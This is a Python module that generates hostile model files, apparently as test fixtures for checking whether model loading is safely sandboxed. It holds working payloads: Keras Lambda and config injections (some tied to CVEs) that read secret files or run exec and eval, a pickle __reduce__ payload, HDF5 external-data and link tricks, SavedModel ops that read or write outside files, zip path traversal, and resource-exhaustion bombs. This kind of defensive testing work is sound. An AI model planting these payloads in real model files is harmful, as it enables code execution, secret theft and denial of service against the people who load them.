"""Hostile model files: Python that writes each, with canaries still to be planted.

Every maker leaves its file under the name `hostile`, or a folder of that name that is then zipped.
"""

from dataclasses import dataclass

_LAMBDA = """
model = keras.Sequential([keras.layers.Input((1,)), keras.layers.Lambda(lambda x: x)])
model.layers[-1].function = lambda x: (print(open("@SECRET_FILE@").read()), x)[1]
model.save("mine.{kind}")
os.rename("mine.{kind}", "hostile")
"""
_CONFIG = """
import json, zipfile

def function(module, name, *args):
    return {{
        "module": module, "class_name": "function", "config": name, "registered_name": name,
        "name": name, "build_config": {{}},
        "inbound_nodes": [{{"args": list(args), "kwargs": {{}}}}],
    }}

begin = {{
    "module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "begin",
    "config": {{"batch_shape": [None, 1], "dtype": "float32", "name": "begin"}},
    "inbound_nodes": [],
}}
config = {{
    "module": "keras.src.models.functional", "class_name": "Functional",
    "registered_name": "Functional", "build_config": {{"input_shape": None}},
    "config": {{
        "name": "mine", "trainable": True, "layers": [begin, {layers}],
        "input_layers": [["begin", 0, 0]], "output_layers": [["begin", 0, 0]],
    }},
}}
with zipfile.ZipFile("hostile", "w") as archive:
    archive.writestr("config.json", json.dumps(config))
    archive.writestr("metadata.json", json.dumps({{"keras_version": "3.8.0"}}))
"""
_BIAS = """
import h5py
layer = keras.layers.Dense(6, kernel_initializer="zeros")
model = keras.Sequential([keras.layers.Input((1,)), layer])
model.save("mine.{kind}")
os.rename("mine.{kind}", "hostile")

def falsify(file):
    names = []
    file.visit(lambda name: names.append(name) if {is_bias} else None)
    for name in names:
        del file[name]
        {plant}
"""
_IN_HDF5 = """
with h5py.File("hostile", "r+") as file:
    falsify(file)
"""
_IN_ARCHIVE = """
import zipfile
with zipfile.ZipFile("hostile") as archive:
    members = {name: archive.read(name) for name in archive.namelist()}
open("weights", "wb").write(members["model.weights.h5"])
with h5py.File("weights", "r+") as file:
    falsify(file)
members["model.weights.h5"] = open("weights", "rb").read()
with zipfile.ZipFile("hostile", "w") as archive:
    for name, content in members.items():
        archive.writestr(name, content)
"""
_RAW = 'file.create_dataset(name, (6,), "float32", external=[("@SECRET_FILE@", 0, 24)])'
_LINK = 'file[name] = h5py.ExternalLink("@SECRET_FILE@", "/")'
_SERVED = """
import tensorflow as tf

class Served(tf.Module):
    @tf.function(input_signature=[tf.TensorSpec((None, 1), tf.float32)])
    def serve(self, x):
        {body}

module = Served()
tf.saved_model.save(module, "hostile", signatures=module.serve)
"""
_SHOWN = (
    "return tf.tile(tf.reshape(tf.io.decode_raw({read}, tf.float32), (1, 6)), (tf.shape(x)[0], 1))"
)
_SECRET = 'tf.strings.substr(tf.io.read_file("@SECRET_FILE@"), 0, 24)'
_ZIP = """
import zipfile
with zipfile.ZipFile("hostile", "w") as archive:
    archive.writestr("saved_model.pb", b"")
    {member}
"""
_PICKLE = """
import io, json, pickle, zipfile
import numpy as np

class Hostile:
    def __reduce__(self):
        return eval, ('print(open("@SECRET_FILE@").read())',)

weights = io.BytesIO()
np.savez(weights, **{"__root__": np.array([Hostile()], dtype=object)})
model = keras.Sequential([keras.layers.Input((1,)), keras.layers.Dense(1)])
model.save("mine.keras")
with zipfile.ZipFile("mine.keras") as archive:
    members = {name: archive.read(name) for name in archive.namelist()}
del members["model.weights.h5"]
members["model.weights.npz"] = weights.getvalue()
with zipfile.ZipFile("hostile", "w") as archive:
    for name, content in members.items():
        archive.writestr(name, content)
"""


@dataclass(frozen=True, slots=True)
class Maker:
    """One hostile file."""

    name: str
    body: str
    is_legacy: bool = False
    is_live: bool = True  # it does harm where it is loaded without care and without walls

    @property
    def source(self) -> str:
        keras = "tf_keras as keras" if self.is_legacy else "keras"
        return f"import os\nimport {keras}\n{self.body}"


def _of_layers(layers: str) -> str:
    return _CONFIG.format(layers=layers)


def _of_bias(kind: str, plant: str) -> str:
    # In an .h5 file a weight has a name, in a .keras file it has a number.
    is_bias = (
        "name.split('/')[-1].startswith('bias')" if kind == "h5" else "name.endswith('vars/1')"
    )
    rest = _IN_HDF5 if kind == "h5" else _IN_ARCHIVE
    return _BIAS.format(kind=kind, is_bias=is_bias, plant=plant) + rest


def _of_member(name: str) -> str:
    return _ZIP.format(member=f'archive.writestr("{name}", "changed")')


MAKERS = [
    Maker("keras_lambda", _LAMBDA.format(kind="keras")),
    Maker("h5_lambda", _LAMBDA.format(kind="h5")),
    Maker("legacy_keras_lambda", _LAMBDA.format(kind="keras"), is_legacy=True),
    Maker("legacy_h5_lambda", _LAMBDA.format(kind="h5"), is_legacy=True),  # CVE-2025-9905
    Maker(  # CVE-2025-1550
        "keras_names_exec",
        _of_layers("""function("builtins", "exec", 'print(open("@SECRET_FILE@").read())')"""),
        is_live=False,  # newer Keras looks only where it is itself
    ),
    Maker(  # CVE-2025-8747
        "keras_names_get_file",
        _of_layers(
            """function("keras.utils", "get_file", "x", "http://127.0.0.1:@LISTENER_PORT@/")"""
        ),
        is_live=False,
    ),
    Maker(  # CVE-2025-9906
        "keras_turns_safety_off",
        _of_layers("""function("keras.config", "enable_unsafe_deserialization")"""),
        is_live=False,
    ),
    Maker("keras_pickled_weights", _PICKLE, is_live=False),  # NumPy does not unpickle unasked
    Maker("h5_external_data", _of_bias("h5", _RAW), is_live=False),  # Keras 3 looks for it
    Maker("legacy_h5_external_data", _of_bias("h5", _RAW), is_legacy=True),
    Maker("h5_external_link", _of_bias("h5", _LINK), is_live=False),  # the secret is no HDF5
    Maker("keras_external_data", _of_bias("keras", _RAW), is_live=False),
    Maker("saved_model_reads", _SERVED.format(body=_SHOWN.format(read=_SECRET))),
    Maker(
        "saved_model_maps",
        _SERVED.format(
            body="""y = tf.raw_ops.ImmutableConst(
            dtype=tf.float32, shape=[1, 6], memory_region_name="@SECRET_FILE@")
        return tf.tile(y, (tf.shape(x)[0], 1))"""
        ),
    ),
    Maker(
        "saved_model_writes",
        _SERVED.format(body='tf.io.write_file("@OUTSIDE@/new.txt", "x")\n        return x'),
    ),
    Maker(
        "saved_model_prints_into_a_file",
        _SERVED.format(
            body='tf.print("x", output_stream="file://@OUTSIDE@/new.txt")\n        return x'
        ),
    ),
    Maker(
        "saved_model_calls_python",
        _SERVED.format(
            body="""tf.py_function(lambda: print(open("@SECRET_FILE@").read()), [], [])
        return x"""
        ),
        is_live=False,  # the function stays in the process that made it
    ),
    Maker("zip_climbs_out", _of_member("../" * 12 + "@OUTSIDE@/victim.txt")),
    Maker("zip_is_absolute", _of_member("@OUTSIDE@/victim.txt")),
    Maker(
        "zip_links",
        _ZIP.format(
            member="""link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    archive.writestr(link, "@OUTSIDE@")
    archive.writestr("link/victim.txt", "changed")"""
        ),
        is_live=False,  # zipfile writes links as files
    ),
]
"""Files that reach for something."""

BOMBS = [
    Maker(
        "saved_model_never_ends",
        _SERVED.format(
            body="return tf.while_loop(lambda y: tf.constant(True), lambda y: (y + 0.0,), (x,))[0]"
        ),
    ),
    Maker(
        "saved_model_takes_all_memory",
        _SERVED.format(
            body="n = 2**31 + tf.shape(x)[0]\n"
            "        return x + tf.reduce_sum(tf.random.uniform((n,)))"
        ),
    ),
    Maker(
        "keras_is_huge",
        """
import json, zipfile
model = keras.Sequential([keras.layers.Input((1,)), keras.layers.Dense(1)])
model.save("mine.keras")
with zipfile.ZipFile("mine.keras") as archive:
    members = {name: archive.read(name) for name in archive.namelist()}
config = members["config.json"].replace(b'"units": 1,', b'"units": 2000000000,')
assert config != members["config.json"]
members["config.json"] = config
with zipfile.ZipFile("hostile", "w") as archive:
    for name, content in members.items():
        archive.writestr(name, content)
""",
    ),
]
"""Files that take what there is."""
